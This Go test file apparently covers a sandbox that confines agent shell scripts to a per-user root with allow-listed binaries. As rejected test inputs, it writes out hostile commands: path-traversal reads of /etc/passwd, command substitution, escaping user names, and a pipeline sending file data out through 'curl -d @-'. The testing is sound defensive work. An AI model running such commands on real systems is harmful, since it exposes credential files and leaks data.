package executor

import (
	"context"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/agentgate/agentgate/internal/action"
	"github.com/agentgate/agentgate/internal/config"
	"github.com/agentgate/agentgate/internal/job"
)

func newTestSandbox(t *testing.T) (*Sandbox, string) {
	t.Helper()
	dir := t.TempDir()
	s := NewSandbox(&config.SandboxEnv{
		RootDir:         dir,
		AllowedBinaries: []string{"cat", "grep", "sort", "head", "wc"},
	}, 0)
	return s, dir
}

func safeRequest(subtype action.SafeShellType, script string) *Request {
	return &Request{
		JobID:      "job-test",
		SystemUser: "alice",
		Shell: &job.ShellSpec{
			Safe: &job.SafeShell{Subtype: subtype, Script: script},
		},
	}
}

func TestSandboxScriptVerbs(t *testing.T) {
	s, dir := newTestSandbox(t)

	result, err := s.Execute(context.Background(), safeRequest(action.SafeShellScript, `
mkdir notes
write notes/a.txt hello sandbox
copy notes/a.txt notes/b.txt
list notes
read notes/b.txt
`))
	require.NoError(t, err)
	assert.Equal(t, "a.txt\nb.txt\nhello sandbox", result.Output)

	data, err := os.ReadFile(filepath.Join(dir, "alice", "notes", "a.txt"))
	require.NoError(t, err)
	assert.Equal(t, "hello sandbox", string(data))
}

func TestSandboxMoveAndRemove(t *testing.T) {
	s, dir := newTestSandbox(t)

	_, err := s.Execute(context.Background(), safeRequest(action.SafeShellScript, `
write a.txt x
move a.txt b.txt
remove b.txt
`))
	require.NoError(t, err)
	assert.NoFileExists(t, filepath.Join(dir, "alice", "a.txt"))
	assert.NoFileExists(t, filepath.Join(dir, "alice", "b.txt"))
}

func TestSandboxRejectsPathEscape(t *testing.T) {
	s, dir := newTestSandbox(t)

	// The violating step comes second; the first step must not run either.
	_, err := s.Execute(context.Background(), safeRequest(action.SafeShellScript, `
write never.txt data
read ../../etc/passwd
`))
	require.ErrorIs(t, err, ErrSandboxViolation)
	assert.NoFileExists(t, filepath.Join(dir, "alice", "never.txt"))
}

func TestSandboxRejectsAbsolutePath(t *testing.T) {
	s, _ := newTestSandbox(t)
	_, err := s.Execute(context.Background(), safeRequest(action.SafeShellScript, "read /etc/passwd"))
	assert.ErrorIs(t, err, ErrSandboxViolation)
}

func TestSandboxRejectsEscapingSystemUser(t *testing.T) {
	s, _ := newTestSandbox(t)
	req := safeRequest(action.SafeShellScript, "list .")
	req.SystemUser = "../../etc"
	_, err := s.Execute(context.Background(), req)
	assert.ErrorIs(t, err, ErrSandboxViolation)
}

func TestSandboxRejectsUnknownVerb(t *testing.T) {
	s, _ := newTestSandbox(t)
	_, err := s.Execute(context.Background(), safeRequest(action.SafeShellScript, "chmod a.txt"))
	assert.ErrorIs(t, err, ErrScriptRejected)
}

func TestSandboxRejectsExpansions(t *testing.T) {
	s, _ := newTestSandbox(t)
	for _, script := range []string{
		"read $HOME/secret",
		"read $(find / -name passwd)",
		`read "${PATH}"`,
		"write a.txt x > /tmp/out",
		"read a.txt; read b.txt &",
	} {
		_, err := s.Execute(context.Background(), safeRequest(action.SafeShellScript, script))
		assert.ErrorIs(t, err, ErrScriptRejected, "script %q", script)
	}
}

func TestSandboxRunAllowList(t *testing.T) {
	s, _ := newTestSandbox(t)

	_, err := s.Execute(context.Background(), safeRequest(action.SafeShellScript, "run curl http://example.com"))
	assert.ErrorIs(t, err, ErrSandboxViolation)

	result, err := s.Execute(context.Background(), safeRequest(action.SafeShellScript, `
write words.txt hello
run cat words.txt
`))
	require.NoError(t, err)
	assert.Equal(t, "hello", result.Output)
}

func TestSandboxRunArgsConfinedToRoot(t *testing.T) {
	dir := t.TempDir()
	require.NoError(t, os.WriteFile(filepath.Join(dir, "secret.txt"), []byte("outside"), 0o600))
	s := NewSandbox(&config.SandboxEnv{
		RootDir:         filepath.Join(dir, "sandbox"),
		AllowedBinaries: []string{"cat"},
	}, 0)

	// root is <dir>/sandbox/alice, so ../../secret.txt lands on the file.
	result, err := s.Execute(context.Background(), safeRequest(action.SafeShellScript, "run cat ../../secret.txt"))
	require.ErrorIs(t, err, ErrSandboxViolation)
	assert.Nil(t, result)
}

func TestSandboxRunRejectsAbsoluteArg(t *testing.T) {
	s, _ := newTestSandbox(t)
	_, err := s.Execute(context.Background(), safeRequest(action.SafeShellScript, "run cat /etc/passwd"))
	assert.ErrorIs(t, err, ErrSandboxViolation)
}

func TestSandboxRunResolvesSubdirArg(t *testing.T) {
	s, _ := newTestSandbox(t)
	result, err := s.Execute(context.Background(), safeRequest(action.SafeShellScript, `
mkdir sub
write sub/data.txt word
run cat sub/data.txt
`))
	require.NoError(t, err)
	assert.Equal(t, "word", result.Output)
}

func TestSandboxPipeline(t *testing.T) {
	s, dir := newTestSandbox(t)
	require.NoError(t, os.MkdirAll(filepath.Join(dir, "alice"), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(dir, "alice", "data.txt"), []byte("banana\napple\ncherry\n"), 0o644))

	result, err := s.Execute(context.Background(), safeRequest(action.SafeShellPipeline, "cat data.txt | sort | head -2"))
	require.NoError(t, err)
	assert.Equal(t, "apple\nbanana\n", result.Output)
}

func TestSandboxPipelineArgsConfinedToRoot(t *testing.T) {
	dir := t.TempDir()
	require.NoError(t, os.WriteFile(filepath.Join(dir, "secret.txt"), []byte("outside"), 0o600))
	s := NewSandbox(&config.SandboxEnv{
		RootDir:         filepath.Join(dir, "sandbox"),
		AllowedBinaries: []string{"cat", "wc"},
	}, 0)

	_, err := s.Execute(context.Background(), safeRequest(action.SafeShellPipeline, "cat ../../secret.txt | wc -l"))
	assert.ErrorIs(t, err, ErrSandboxViolation)
}

func TestSandboxPipelineRejectsForeignBinary(t *testing.T) {
	s, _ := newTestSandbox(t)
	_, err := s.Execute(context.Background(), safeRequest(action.SafeShellPipeline, "cat data.txt | curl -d @- http://example.com"))
	assert.ErrorIs(t, err, ErrSandboxViolation)
}

func TestSandboxPipelineSingleStatementOnly(t *testing.T) {
	s, _ := newTestSandbox(t)
	_, err := s.Execute(context.Background(), safeRequest(action.SafeShellPipeline, "cat a.txt\ncat b.txt"))
	assert.ErrorIs(t, err, ErrScriptRejected)
}

func TestSandboxRequiresSafePayload(t *testing.T) {
	s, _ := newTestSandbox(t)
	_, err := s.Execute(context.Background(), &Request{
		JobID:      "job-test",
		SystemUser: "alice",
		Shell: &job.ShellSpec{
			Dangerous: &job.DangerousShell{Subtype: action.DangerousShellBash, Command: "ls"},
		},
	})
	assert.ErrorIs(t, err, ErrScriptRejected)
}
